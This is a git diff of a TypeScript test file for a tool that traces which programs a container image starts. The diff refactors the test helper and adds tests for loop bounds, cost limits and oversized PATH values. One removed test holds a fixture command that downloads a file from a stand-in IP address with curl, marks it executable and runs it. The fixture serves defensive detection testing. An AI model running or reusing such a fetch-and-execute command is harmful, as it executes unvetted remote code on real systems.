@@ -1,9 +1,10 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
+import { processorTime } from '../../test/fixtures/processor-time.ts';
 import { startFact } from '../detect/start/detector.ts';
-import { reachable } from './reach.ts';
+import { chainTo, reachable } from './reach.ts';
 import type { ReachView } from './reach-files.ts';
-import type { StartConfig } from './reach-walk.ts';
+import { groundOf, type StartConfig } from './reach-walk.ts';
 
 const bare: StartConfig = { entrypoint: [], cmd: [], env: [], healthcheck: [], user: '', workingDir: '' };
 
@@ -34,10 +35,12 @@ function viewOf(files: Readonly<Record<string, string>>): ReachView {
 }
 
 function walk(files: Readonly<Record<string, string>>, config: Partial<StartConfig> = {}) {
-  return reachable(viewOf(files), { ...bare, ...config }, (path) => {
+  const ground = groundOf(viewOf(files), (path) => {
     const text = files[path];
     return text === undefined || text.startsWith('ELF') ? undefined : startFact(text, path);
   });
+  const { steps, ...rest } = reachable(ground, { ...bare, ...config });
+  return { ...rest, has: (path: string) => steps.has(path), why: (path: string) => chainTo(path, steps) };
 }
 
 const elf = 'ELF';
@@ -185,24 +188,58 @@ describe('the walk from the start paths', () => {
     assert.deepEqual(set.why('/opt/agent'), ['Healthcheck', '/etc/init.d/agent', '/opt/agent']);
   });
 
-  it('notes programs that are started and not there', () => {
-    const set = walk(
-      {},
-      { cmd: ['/bin/sh', '-c', 'curl -so /tmp/x http://192.0.2.1/x; chmod +x /tmp/x; /tmp/x'] },
-    );
-    assert.ok(set.missing.some((one) => one.path === '/tmp/x' && one.why[0] === 'Cmd'));
-  });
-
   it('ends on scripts that call each other, and says where a bound stopped it', () => {
     const loop = walk(
       { '/a': '#!/bin/sh\n/b "$@" x\n', '/b': '#!/bin/sh\n/a "$@" y\n' },
       { entrypoint: ['/a'] },
     );
     assert.ok(loop.has('/b'));
+    assert.equal(loop.complete, true);
     const files: Record<string, string> = {};
     for (let index = 0; index < 40; index++) files[`/s${index}`] = `#!/bin/sh\n/s${index + 1}\n`;
     const deep = walk(files, { entrypoint: ['/s0'] });
-    assert.equal(deep.complete, false);
-    assert.equal(deep.has('/s30'), false);
+    assert.ok(deep.complete && deep.has('/s39'));
+    const nested = walk({}, { cmd: ['sh', '-c', 'eval "'.repeat(20) + 'x' + '"'.repeat(20)] });
+    assert.equal(nested.complete, false);
+  });
+
+  it('is not complete where it has cost too much', () => {
+    const files: Record<string, string> = {};
+    for (let index = 0; index < 1500; index++) files[`/d/f${index}`] = '';
+    const globs = Array.from({ length: 3000 }, (_, at) => `cat /d/*${at}`).join('\n');
+    files['/run'] = `#!/bin/sh\n${globs}\n`;
+    assert.equal(walk(files, { entrypoint: ['/run'] }).complete, false);
+  });
+
+  it('ignores folders of PATH and files with names longer than a path can be', () => {
+    const path = Array.from({ length: 32 }, (_, at) => `/${at}${'x'.repeat(200_000)}`).join(':');
+    const used = processorTime();
+    const set = walk(
+      {
+        '/run': `#!/bin/sh\n${Array.from({ length: 2000 }, (_, at) => `p${at} a`).join('\n')}\n/opt/x\n`,
+        '/opt/x': elf,
+      },
+      { entrypoint: ['/run'], env: [`PATH=${path}`, `HOME=/${'h'.repeat(100_000)}`] },
+    );
+    assert.ok(set.has('/opt/x') && set.complete);
+    assert.ok(used() < 2000);
+  });
+
+  it('tells programs that were not read for what they start', () => {
+    const ground = groundOf(viewOf({ '/opt/run': 'x', '/opt/data': 'x', '/opt/cut': 'x' }), (path) =>
+      path === '/opt/cut' ? { refs: [], commands: [], cut: true } : 'left',
+    );
+    const run = (cmd: string[]) => reachable(ground, { ...bare, cmd }).partly;
+    assert.deepEqual(run(['sh', '/opt/run']), ['/opt/run']);
+    assert.deepEqual(run(['/opt/cut', '/opt/data']), ['/opt/cut']);
+  });
+
+  it('follows a text that nothing calls a program where it is run, not where it is read', () => {
+    const plain = { refs: [], commands: [['/opt/x']], plain: true } as const;
+    const ground = groundOf(viewOf({ '/opt/run': 'x', '/opt/x': elf }), (path) =>
+      path === '/opt/run' ? plain : undefined,
+    );
+    assert.ok(reachable(ground, { ...bare, cmd: ['sh', '/opt/run'] }).steps.has('/opt/x'));
+    assert.ok(!reachable(ground, { ...bare, cmd: ['cat', '/opt/run'] }).steps.has('/opt/x'));
   });
 });
